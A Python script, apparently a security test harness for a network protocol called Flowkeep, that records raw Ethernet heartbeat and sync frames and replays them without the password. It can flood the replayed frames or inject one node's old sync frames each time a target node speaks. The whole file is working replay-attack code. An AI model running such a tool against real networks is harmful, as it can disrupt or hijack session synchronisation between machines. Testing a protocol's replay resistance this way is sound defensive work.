#!/usr/bin/env python3
"""replay.py: an attacker with recordings, but without the password.

    replay.py record IFACE FILE                     until SIGTERM: every frame of Flowkeep's Ethertypes
    replay.py play IFACE FILE SECONDS               again and again, heartbeats and sync frames of everybody
    replay.py strike IFACE FILE FROM TO SECONDS     the sync frames of FROM, in order, each time that TO has
                                                    just said something on the sync plane, from its fourth
                                                    word on: by then it has asked for all sessions

Prints one JSON line with what it did. Frames keep their bytes; the source address is the attacker's.
"""
import json
import signal
import socket
import sys
import time

HEARTBEAT, SYNC = 0x8890, 0x8892
ETH_P_ALL = 3
RATE = 2000


def opened(iface):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((iface, 0))
    sock.settimeout(0.1)
    return sock


def kind(frame):
    return int.from_bytes(frame[12:14], "big")


def serial(frame):
    return frame[22:38].rstrip(b"\0").decode("ascii", "replace")  # wire/seal.h


def counter(frame):
    return int.from_bytes(frame[46:54], "big")


def record(sock, path):
    running = [True]
    signal.signal(signal.SIGTERM, lambda *_: running.clear())
    count = 0
    with open(path, "w", encoding="ascii") as file:
        while running:
            try:
                frame, address = sock.recvfrom(16384)
            except TimeoutError:
                continue
            if kind(frame) in (HEARTBEAT, SYNC) and address[2] != socket.PACKET_OUTGOING:
                file.write(frame.hex() + "\n")
                count += 1
    return {"recorded": count}


def send(sock, frame):
    try:
        sock.send(b"\xff" * 6 + sock.getsockname()[4] + frame[12:])
    except OSError:
        return 0  # the queue is full, the link is gone
    return 1


def play(sock, frames, seconds):
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for frame in frames:
            sent += send(sock, frame)
            time.sleep(1 / RATE)
            if time.monotonic() >= end:
                break
    return {"frames": len(frames), "sent": sent}


def strike(sock, frames, source, target, seconds):
    frames = sorted((f for f in frames if kind(f) == SYNC and serial(f) == source), key=counter)
    end, heard, sent, strikes = time.monotonic() + seconds, 0, 0, 0
    while time.monotonic() < end:
        try:
            frame, address = sock.recvfrom(16384)
        except TimeoutError:
            continue
        if address[2] == socket.PACKET_OUTGOING or kind(frame) != SYNC or serial(frame) != target:
            continue
        heard += 1
        if heard < 4:
            continue
        strikes += 1
        for old in frames:
            sent += send(sock, old)
    return {"frames": len(frames), "strikes": strikes, "sent": sent}


def main():
    what, iface, path = sys.argv[1:4]
    sock = opened(iface)
    if what == "record":
        result = record(sock, path)
    else:
        with open(path, encoding="ascii") as file:
            frames = [bytes.fromhex(line) for line in file]
        if what == "play":
            result = play(sock, frames, min(float(sys.argv[4]), 60))
        else:
            result = strike(sock, frames, sys.argv[4], sys.argv[5], min(float(sys.argv[6]), 60))
    print(json.dumps(result))


if __name__ == "__main__":
    main()
